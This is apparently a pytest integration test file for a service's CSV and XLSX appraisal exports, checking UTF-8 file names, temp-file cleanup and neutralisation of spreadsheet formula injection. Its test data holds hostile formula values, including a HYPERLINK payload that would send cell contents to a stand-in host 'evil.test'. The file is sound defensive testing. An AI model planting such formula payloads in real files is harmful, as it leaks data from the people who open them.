"""Exports through the real routes and PostgreSQL: hostile ids, CJK file names, temp files."""

from __future__ import annotations

import asyncio
from typing import Any
from urllib.parse import quote, unquote

import pytest
from fastapi import FastAPI
from httpx import ASGITransport, AsyncClient
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine
from starlette.types import Message, Scope

from shared.settings import load_settings
from shared.topics import Topics
from tests.export_checks import (
    Leftovers,
    hostile_text,
    read_csv,
    read_xlsx,
    reference,
    safe_filename,
    xlsx_reference,
)
from tests.integration.test_appraisal_api import (  # noqa: F401 - app, client: fixtures
    ADMIN,
    NOW,
    Q3,
    TZ,
    app,
    build,
    client,
    seed_org,
)
from tests.integration.test_ingest_flow import ingest_settings, running_ingest
from tests.integration.test_scoring_api import seed_daily, seed_directory
from tests.service_helpers import ADMIN_TOKEN

ID = hostile_text(storable=True, min_size=1)
NAME = st.none() | hostile_text(storable=True)


async def _reset(engine: AsyncEngine) -> None:
    async with engine.begin() as conn:
        for table in ("kpi_daily", "specialists", "teams"):
            await conn.execute(text(f"DELETE FROM {table}"))


def _filename(header: str) -> str:
    """The file name a browser takes: filename* (RFC 5987) when given, else filename."""
    if "filename*=UTF-8''" in header:
        return unquote(header.split("filename*=UTF-8''", 1)[1], errors="strict")
    return header.split('filename="', 1)[1].split('"', 1)[0]


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    team=ID,
    people=st.lists(st.tuples(ID, NAME), min_size=1, max_size=3, unique_by=lambda p: p[0]),
)
@example(team="华北-一组", people=[('=HYPERLINK("http://evil.test","x")', "-王芳")])
@example(team="\x01=1", people=[("+1", "@SUM(1)"), ("\x1f\x0b", "#N/A"), ("-5", "\t=1")])
async def test_exports_of_any_stored_text_succeed_and_hold_no_formula(
    client: AsyncClient,  # noqa: F811 - the fixture
    clean_db: AsyncEngine,
    team: str,
    people: list[tuple[str, str | None]],
) -> None:
    """Ids, names and team ids as PostgreSQL stores them (directory rows written before the
    id rule, events' ids): every export answers 200, reads back, and holds no formula."""
    await _reset(clean_db)
    await seed_directory(clean_db, [(team, "T", None)], [(s, n, team) for s, n in people])
    await seed_daily(
        clean_db,
        [(s, Q3, "customer_satisfaction", 9.0, 10) for s, _ in people]
        + [(s, Q3, "nps", -3.0, 5) for s, _ in people],
    )
    got = await client.get("/v1/appraisals/2026Q3", params={"team": team}, headers=ADMIN)
    assert got.status_code == 200, got.text
    appraisals = got.json()["appraisals"]
    assert len(appraisals) == len(people)
    nps = [a["kpis"]["nps"]["value"] for a in appraisals]
    assert all(v < 0 for v in nps)  # a negative number must stay a number

    def expected(cell: Any, number: Any) -> list[tuple[Any, ...]]:
        return sorted(
            (
                cell(a["specialist_id"]),
                cell(a["name"] or ""),
                cell(a["team_id"]),
                number(a["kpis"]["nps"]["value"]),
                number(a["kpis"]["customer_satisfaction"]["value"]),
            )
            for a in appraisals
        )

    params = {"team": team, "lang": "en", "format": "csv"}
    r = await client.get("/v1/appraisals/2026Q3", params=params, headers=ADMIN)
    assert r.status_code == 200, r.text
    assert _filename(r.headers["content-disposition"]) == safe_filename(
        f"appraisal-2026Q3-{team[:60]}.csv"
    )
    table = read_csv(r.content)
    col = table[0].index
    rows = [(x[0], x[1], x[2], x[col("NPS value")], x[col("Customer satisfaction value")])
            for x in table[1:]]  # fmt: skip
    assert sorted(rows) == expected(reference, repr)

    r = await client.get(
        "/v1/appraisals/2026Q3", params={**params, "format": "xlsx"}, headers=ADMIN
    )
    assert r.status_code == 200, r.text
    assert _filename(r.headers["content-disposition"]) == safe_filename(
        f"appraisal-2026Q3-{team[:60]}.xlsx"
    )
    sheet, summary = read_xlsx(r.content).worksheets
    header = [c.value for c in sheet[1]]
    picked = [0, 1, 2, header.index("NPS value"), header.index("Customer satisfaction value")]
    cells = [[row[i] for i in picked] for row in sheet.iter_rows(min_row=2)]
    for line in cells:
        assert [c.data_type for c in line[3:]] == ["n", "n"]
        assert all(c.data_type == "s" for c in line[:3] if c.value is not None)
    assert sorted(tuple(c.value or "" for c in line) for line in cells) == expected(
        xlsx_reference, lambda v: v
    )
    assert summary["B2"].value == xlsx_reference(team)


async def test_a_cjk_team_names_its_download_in_utf8(
    client: AsyncClient,  # noqa: F811 - the fixture
    clean_db: AsyncEngine,
) -> None:
    await seed_directory(clean_db, [("华北-一组", "North", None)], [("s1", "李伟", "华北-一组")])
    for fmt in ("csv", "xlsx"):
        params = {"team": "华北-一组", "format": fmt}
        r = await client.get("/v1/appraisals/2026Q3", params=params, headers=ADMIN)
        assert r.status_code == 200, r.text
        name = f"appraisal-2026Q3-华北-一组.{fmt}"
        assert r.headers["content-disposition"] == (
            f"attachment; filename=\"appraisal-2026Q3-__-__.{fmt}\"; filename*=UTF-8''{quote(name)}"
        )


async def test_formula_ids_sent_through_ingest_export_neutralised(
    database_url: str, bootstrap: str, created_topics: Topics, clean_db: AsyncEngine
) -> None:
    """End to end: hostile specialist ids arrive as events over HTTP, scoring counts them,
    and both exports hand them back as text, with the (negative) NPS still a number."""
    hostile = ['=HYPERLINK("http://evil.test/?"&A1,"x")', "+1+1", "-2", "@SUM(1)", "华北=1"]
    events = [
        {"event_id": f"x-{kind}-{i}", "type": f"survey.{kind}", "specialist_id": sid,
         "occurred_at": "2026-08-10T09:30:00+08:00", "score": score}
        for i, sid in enumerate(hostile)
        for kind, score in (("csat", 5), ("nps", 0))
    ]  # fmt: skip
    cfg = load_settings(
        database_url=database_url,
        kafka_bootstrap=bootstrap,
        bootstrap_admin_token=ADMIN_TOKEN,
        timezone=TZ,
        topic_prefix=created_topics.prefix,
        scoring_session_timeout_ms=1000,
    )
    scoring = build()(cfg)
    async with (
        running_ingest(ingest_settings(database_url, bootstrap, created_topics)) as (_, ingest),
        scoring.router.lifespan_context(scoring),
        AsyncClient(transport=ASGITransport(app=scoring), base_url="http://scoring") as api,
    ):
        scoring.state.clock = lambda: NOW
        r = await ingest.post("/v1/events", json=events, headers=ADMIN)
        assert r.status_code == 202 and r.json()["accepted"] == len(events), r.text
        deadline = asyncio.get_running_loop().time() + 60
        while True:
            got = (await api.get("/v1/appraisals/2026Q3", headers=ADMIN)).json()
            counted = {
                a["specialist_id"]: a["kpis"]["nps"]["value"]
                for a in got["appraisals"]
                if a["kpis"]["nps"]["denominator"] == 1
            }
            if len(counted) == len(hostile):
                break
            assert asyncio.get_running_loop().time() < deadline, got
            await asyncio.sleep(0.2)
        assert set(counted) == set(hostile) and set(counted.values()) == {-100.0}

        r = await api.get("/v1/appraisals/2026Q3?format=csv&lang=en", headers=ADMIN)
        table = read_csv(r.content)
        nps = table[0].index("NPS value")
        assert sorted((x[0], x[nps]) for x in table[1:]) == sorted(
            (reference(sid), "-100.0") for sid in hostile
        )
        r = await api.get("/v1/appraisals/2026Q3?format=xlsx&lang=en", headers=ADMIN)
        sheet = read_xlsx(r.content).worksheets[0]
        col = [c.value for c in sheet[1]].index("NPS value")
        assert sorted((x[0].value, x[col].value) for x in sheet.iter_rows(min_row=2)) == sorted(
            ("'" + sid if sid[0] in "=+-@" else sid, -100) for sid in hostile
        )


# --------------------------------------------------------------------- temporary files


XLSX = "/v1/appraisals/2026Q3?team=north&format=xlsx"


async def test_no_temp_file_after_an_xlsx_download_or_a_client_gone_before_it(
    app: FastAPI,  # noqa: F811 - the fixture
    client: AsyncClient,  # noqa: F811 - the fixture
    clean_db: AsyncEngine,
    temp_files: Leftovers,
) -> None:
    await seed_org(clean_db)
    r = await client.get(XLSX, headers=ADMIN)
    assert r.status_code == 200 and r.content.startswith(b"PK")
    assert temp_files() == []

    # The workbook is built, then the response cannot start: its body is never read.
    path, query = XLSX.split("?")
    scope: Scope = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.4"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": query.encode(),
        "root_path": "",
        "headers": [(b"host", b"scoring"), (b"authorization", ADMIN["Authorization"].encode())],
        "client": ("127.0.0.1", 50000),
        "server": ("scoring", 80),
    }

    async def receive() -> Message:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Message) -> None:
        if message["type"] == "http.response.start":
            raise ConnectionResetError("the client went away")

    with pytest.raises(ConnectionResetError):
        await app(scope, receive, send)
    assert temp_files() == []


@pytest.mark.parametrize("failure", ["cancelled", "database_connection_killed"])
async def test_no_temp_file_after_a_failed_xlsx_export(
    client: AsyncClient,  # noqa: F811 - the fixture
    clean_db: AsyncEngine,
    temp_files: Leftovers,
    failure: str,
) -> None:
    """The export fails while openpyxl is writing the sheet: the request is cancelled (client
    gone, shutdown) or its database connection dies. No sheet file of openpyxl stays."""
    await seed_org(clean_db)
    async with clean_db.connect() as locker:
        # Members are read after the header row is written: hold them back there.
        await locker.execute(text("LOCK TABLE specialists IN ACCESS EXCLUSIVE MODE"))
        export = asyncio.ensure_future(client.get(XLSX, headers=ADMIN))
        deadline = asyncio.get_running_loop().time() + 30
        while not temp_files():
            assert not export.done(), export
            assert asyncio.get_running_loop().time() < deadline, "the sheet never started"
            await asyncio.sleep(0.01)
        if failure == "cancelled":
            export.cancel()
        else:
            await _kill_waiting_backends(locker, export, deadline)
        try:
            answer = await export
        except (asyncio.CancelledError, Exception):
            answer = None
        # A database outage mid-export is a 503 with Retry-After (never a 500) or, once the
        # response has started, a broken stream; a cancelled request has no answer.
        assert answer is None or (failure != "cancelled" and answer.status_code == 503), answer
        await locker.rollback()
    assert temp_files() == []


async def _kill_waiting_backends(conn: Any, export: asyncio.Future[Any], deadline: float) -> None:
    """Terminate the connections that wait for the lock (the export's query) until the
    export gives up (the read layer retries once on a fresh connection)."""
    while not export.done():
        assert asyncio.get_running_loop().time() < deadline, "the export never failed"
        # pg_stat_activity is a snapshot per transaction, and the lock holds one open.
        await conn.execute(text("SELECT pg_stat_clear_snapshot()"))
        await conn.execute(
            text(
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity "
                "WHERE datname = current_database() AND wait_event_type = 'Lock' "
                "AND pid <> pg_backend_pid()"
            )
        )
        await asyncio.sleep(0.01)
